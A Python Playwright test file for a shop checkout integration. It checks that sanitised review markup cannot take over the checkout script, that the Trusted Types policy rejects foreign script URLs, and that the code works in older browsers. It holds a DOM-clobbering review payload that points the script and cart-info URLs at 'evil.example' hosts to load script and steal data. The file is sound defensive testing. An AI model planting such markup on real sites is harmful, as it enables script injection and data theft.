"""Markup that a cleaned review may hold, and where the button may stand."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect
from playwright.sync_api import Page

from .conftest import Shop
from .conftest import wait_until
from .test_checkout import BUTTON
from .test_checkout import open_cart

pytestmark = pytest.mark.browser
#: What DOMPurify's defaults let through.
REVIEW = """<p id="zonos-settings">{"scriptUrl": "https://evil.example/x.js",
"cartInfoUrl": "https://evil.example/steal", "identity": "x", "init": {}}</p>
<p data-zonos-notice="ours">Nice cup</p>
<p data-zonos-script>Nice cup</p>
<p id="Zonos">Nice cup</p> <p id="zonosCheckout">Nice cup</p>
<p id="trusted-types">Nice cup</p> <p data-zonos-fallback>Nice shop</p>"""


def test_a_review_is_taken_for_nothing_of_ours(page: Page, shop: Shop) -> None:
    shop.before = REVIEW
    shop.answer = lambda: ({"code": "busy"}, 503)
    open_cart(page, shop)
    assert page.evaluate("[fake.scripts, fake.inits]") == [1, 1]
    page.get_by_text("Nice shop").click()
    page.click(BUTTON)
    alert = page.locator(f"{BUTTON} + div").get_by_role("alert")
    expect(alert).to_contain_text("couldn’t open")
    assert shop.paths() == ["/zonos/cart-info"]
    assert page.locator("p[data-zonos-notice]").inner_text() == "Nice cup"


def test_the_trusted_types_policy_vouches_for_the_loader_alone(
    page: Page, shop: Shop
) -> None:
    page.add_init_script(
        "const create = trustedTypes.createPolicy;"
        "trustedTypes.createPolicy = function (name, rules) {"
        " window.rules = rules; return create.call(trustedTypes, name, rules); }"
    )
    open_cart(page, shop)
    foreign = "String(rules.createScriptURL('https://evil.example/x.js'))"
    assert page.evaluate(foreign) == "/fake-zonos.js"


def test_what_is_told_of_a_button_in_a_link_stands_beside_the_link(
    page: Page, shop: Shop
) -> None:
    shop.button = (
        '<a href="/own-checkout"><b><button type="button" id="place-order">'
        "Place order</button></b></a>"
    )
    shop.answer = lambda: ({"code": "busy"}, 503)
    open_cart(page, shop)
    page.click(BUTTON)
    expect(page.locator("a + div").get_by_role("alert")).to_contain_text("couldn’t")
    assert page.locator("a [role]").count() == 0
    page.get_by_role("button", name="Use this shop’s own checkout").click()
    expect(page.get_by_role("heading")).to_have_text("Own checkout")


#: What browsers of 2020 lack.
OLD = """
for (const name of ["structuredClone", "reportError", "ReportingObserver"]) {
  delete window[name];
}
window.CSSStyleSheet = class { constructor() { throw new TypeError("Illegal"); } };
delete Document.prototype.adoptedStyleSheets;
delete AbortSignal.prototype.throwIfAborted;
delete AbortSignal.prototype.reason;
delete AbortSignal.timeout;
delete AbortSignal.any;
delete HTMLFormElement.prototype.requestSubmit;
delete Object.hasOwn;
delete Array.prototype.at;
delete String.prototype.at;
delete String.prototype.replaceAll;
delete Element.prototype.replaceChildren;
delete Promise.any;
"""


def test_it_works_in_a_browser_of_2020(page: Page, shop: Shop) -> None:
    shop.button = '<button id="place-order" name="how" value="own">Place order</button>'
    page.add_init_script(OLD)
    open_cart(page, shop)
    page.click(BUTTON)
    wait_until(page, "fake.opened.length")
    shop.answer = lambda: ({"code": "busy"}, 503)
    page.evaluate("fake.settings.checkoutSettings.onClose()")
    page.click(BUTTON)
    expect(page.get_by_role("alert")).to_contain_text("couldn’t open")
    with page.expect_request("**/own-checkout") as sent:
        page.get_by_role("button", name="Use this shop’s own checkout").click()
    assert sent.value.post_data == "how=own"
    expect(page.get_by_role("heading")).to_have_text("Own checkout")
